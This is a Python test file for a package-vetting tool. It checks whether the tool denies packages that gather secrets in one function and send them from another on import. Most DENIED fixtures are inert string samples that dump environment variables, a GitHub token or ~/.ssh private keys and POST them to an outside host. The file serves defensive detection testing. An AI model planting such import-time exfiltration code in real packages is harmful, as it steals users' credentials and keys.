"""Secrets kept in an object one function fills and another sends (issue 16; ADR 0193).

A function walked on import gets a copy of its caller's names, so what it put into a
module's list or dict (``BUF.append(dict(os.environ))``, ``STATE['e'] = ...``) or into a
parameter's object (``out.update(os.environ)``) was lost when it returned, and so was what
a comprehension put into its enclosing scope's names or a method into ``self.buf``; a class
attribute bound to a call's value (``data = dict(os.environ)``) was kept only when it folded
to text; a queue's ``put``, a context variable's ``set``, ``setdefault`` and an attribute set
on an object of no known class put nothing into them. The function that then sent the
object on import made a plain network call (allowed). Every sample is inert: vetting only
reads files."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

URL = "https://api.pyrelay.net/v1/e"
HEAD = "import contextvars, glob, os, queue, threading, requests\n"
SEND = f"    requests.post({URL!r}, json={{data}})\n"


def sent(setup: str, fill: str, data: str, run: str = "fill()\nsend()\n") -> dict[str, str]:
    """``__init__.py``: ``setup`` at the top, ``fill()`` running ``fill``, ``send()`` posting
    ``data``, then ``run``."""
    return init(
        f"{HEAD}{setup}\n\ndef fill():\n{fill}\n\n\ndef send():\n{SEND.format(data=data)}\n\n{run}"
    )


DENIED: dict[str, Mapping[str, str]] = {
    # A module's object filled by one function, sent by another.
    "environment-appended-to-a-module-list": sent(
        "BUF = []\n", "    BUF.append(dict(os.environ))", "BUF"
    ),
    "token-stored-in-a-module-dict": sent(
        "STATE = {}\n", "    STATE['t'] = os.environ.get('GITHUB_TOKEN')", "STATE"
    ),
    "ssh-keys-read-into-a-module-dict": sent(
        "KEYS = {}\n",
        "    for p in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n"
        "        KEYS[p] = open(p).read()",
        "KEYS",
    ),
    # A parameter's object filled, then sent by the caller.
    "environment-put-into-a-parameter": init(
        f"{HEAD}\n\ndef collect(out):\n    out.update(os.environ)\n\n\n"
        f"def ship(d):\n{SEND.format(data='d')}\n\nd = {{}}\ncollect(d)\nship(d)\n"
    ),
    # A class attribute bound to a call, sent by a method.
    "environment-in-a-class-attribute-sent-by-a-classmethod": init(
        f"{HEAD}\n\nclass Report:\n    data = dict(os.environ)\n\n    @classmethod\n"
        f"    def go(cls):\n    {SEND.format(data='cls.data')}\n\nReport.go()\n"
    ),
    "environment-in-a-class-attribute-sent-by-a-method": init(
        f"{HEAD}\n\nclass Report:\n    data = dict(os.environ)\n\n    def go(self):\n"
        f"    {SEND.format(data='self.data')}\n\nReport().go()\n"
    ),
    # A queue or a context variable carries what was put into it.
    "environment-queued-for-a-thread": sent(
        "Q = queue.Queue()\n",
        "    Q.put(dict(os.environ))",
        "Q.get()",
        "fill()\nthreading.Thread(target=send).start()\n",
    ),
    "environment-in-a-context-variable": sent(
        "V = contextvars.ContextVar('v')\n", "    V.set(dict(os.environ))", "V.get()"
    ),
    "environment-kept-by-setdefault": sent(
        "S = {}\n", "    S.setdefault('e', dict(os.environ))", "S"
    ),
    # An attribute set on an object of no known class, or a namespace made of the mapping.
    "environment-set-on-a-namespace-attribute": sent(
        "import types\nCFG = types.SimpleNamespace()\n",
        "    CFG.env = dict(os.environ)",
        "CFG.env",
    ),
    # A comprehension's scope and a method's attribute, filled and sent elsewhere.
    "environment-put-into-a-dict-by-a-comprehension": init(
        f"{HEAD}d = {{}}\n[d.update({{k: v}}) for k, v in os.environ.items()]\n\n\n"
        f"def send():\n{SEND.format(data='d')}\n\nsend()\n"
    ),
    "environment-appended-to-an-instance-list": init(
        f"{HEAD}\n\nclass Box:\n    def __init__(self):\n        self.buf = []\n\n"
        "    def fill(self):\n        self.buf.append(dict(os.environ))\n\n"
        f"    def send(self):\n    {SEND.format(data='self.buf')}\n\n"
        "b = Box()\nb.fill()\nb.send()\n"
    ),
    "environment-spread-into-a-namespace": sent(
        "import types\n", "    pass", "repr(vars(types.SimpleNamespace(**os.environ)))"
    ),
}

# attrs' ``_make.py`` builds ``__hash__`` in a list a nested helper extends, a name read by
# ``getattr`` among its lines, and runs it on import: the helper's marks are no secret data
# and stay in it (ADR 0193; denied while every label was carried back).
GENERATED_HASH = """class _W(int):
    pass


def _script(cls, cache):
    tab = "        "
    h = "def __hash__(self"
    if cache:
        h += ", *, _w=__import__('evpkg._make')._make._W):"
        func = "_w(hash(("
    else:
        h += "):"
        func = "hash(("
    lines = [h]

    def add(prefix, indent):
        name = getattr(cls, "__qualname__", cls.__name__)
        lines.extend([indent + prefix + func, indent + f"        {name!r},"])
        lines.append(indent + "    ))")

    add("return ", tab)
    return "\\n".join(lines)


def _add_hash(cls):
    g = {}
    exec(compile(_script(cls, False), "<gen>", "exec"), g)
    cls.__hash__ = g["__hash__"]
    return cls


class Attribute:
    pass


Attribute = _add_hash(Attribute)
"""

ALLOWED: dict[str, Mapping[str, str]] = {
    "code-generated-by-a-nested-helper": {
        "evpkg/__init__.py": "from . import _make\n",
        "evpkg/_make.py": GENERATED_HASH,
    },
    # A library's settings read from its own variables on import, sent to its service only
    # when a caller asks.
    "settings-read-on-import-sent-when-called": init(
        f"{HEAD}SETTINGS = {{}}\n\n\ndef _load():\n"
        "    SETTINGS.update({k[7:].lower(): v for k, v in os.environ.items()"
        " if k.startswith('MYSVCP_')})\n\n\n_load()\n\n\n"
        "def fetch(path):\n    return requests.get('https://api.mysvc.example' + path, "
        "headers={'X-Api-Key': SETTINGS.get('api_key', '')})\n"
    ),
    "client-class-token-sent-when-called": init(
        f"{HEAD}\n\nclass Client:\n    token = os.environ.get('MYSVC_TOKEN')\n\n"
        "    def get(self, path):\n        return requests.get('https://api.mysvc.example' + path,"
        " headers={'Authorization': 'Bearer ' + (self.token or '')})\n\n\nDEFAULT = Client()\n"
    ),
    # Filled on import, sent nowhere: a debug flag kept for later.
    "flags-kept-in-a-module-dict": sent(
        "FLAGS = {}\n",
        "    FLAGS['debug'] = os.environ.get('MYPKG_DEBUG') == '1'",
        "{}",
        "fill()\n",
    ),
    # A worker thread posting what the program queues later, nothing of the environment.
    "log-shipper-thread-started-on-import": init(
        f"{HEAD}Q = queue.Queue()\n\n\ndef _worker():\n    while True:\n        item = Q.get()\n"
        f"        requests.post({URL!r}, json=item)\n\n\n"
        "threading.Thread(target=_worker, daemon=True).start()\n\n\n"
        "def log(event):\n    Q.put(event)\n"
    ),
    # Options parsed into a namespace, the token among them sent when called.
    "token-set-on-parsed-options-sent-when-called": init(
        f"{HEAD}import argparse\nOPTS = argparse.Namespace()\n\n\ndef _defaults():\n"
        "    OPTS.token = os.environ.get('MYSVC_TOKEN')\n\n\n_defaults()\n\n\n"
        "def me():\n    return requests.get('https://api.mysvc.example/me',"
        " headers={'Authorization': OPTS.token})\n"
    ),
    # Names of the environment checked by a comprehension, and an instance's list of the
    # caller's events sent when called.
    "variables-listed-by-a-comprehension": init(
        f"{HEAD}SEEN = []\n[SEEN.append(k) for k in os.environ if k.startswith('MYPKG_')]\n"
    ),
    "instance-queue-of-events-sent-when-called": init(
        f"{HEAD}\n\nclass Client:\n    def __init__(self):\n        self.pending = []\n\n"
        "    def track(self, event):\n        self.pending.append(event)\n\n"
        f"    def flush(self):\n        requests.post({URL!r}, json=self.pending)\n\n\n"
        "CLIENT = Client()\n"
    ),
    # A parameter's dict given defaults, nothing secret put into it.
    "defaults-put-into-a-parameter": init(
        f"{HEAD}\n\ndef defaults(d):\n    d.update(timeout=5, retries=3)\n\n\nOPTS = {{}}\n"
        f"defaults(OPTS)\n\n\ndef ping():\n    return requests.get({URL!r}, params=OPTS)\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_secrets_kept_between_functions(files: Mapping[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
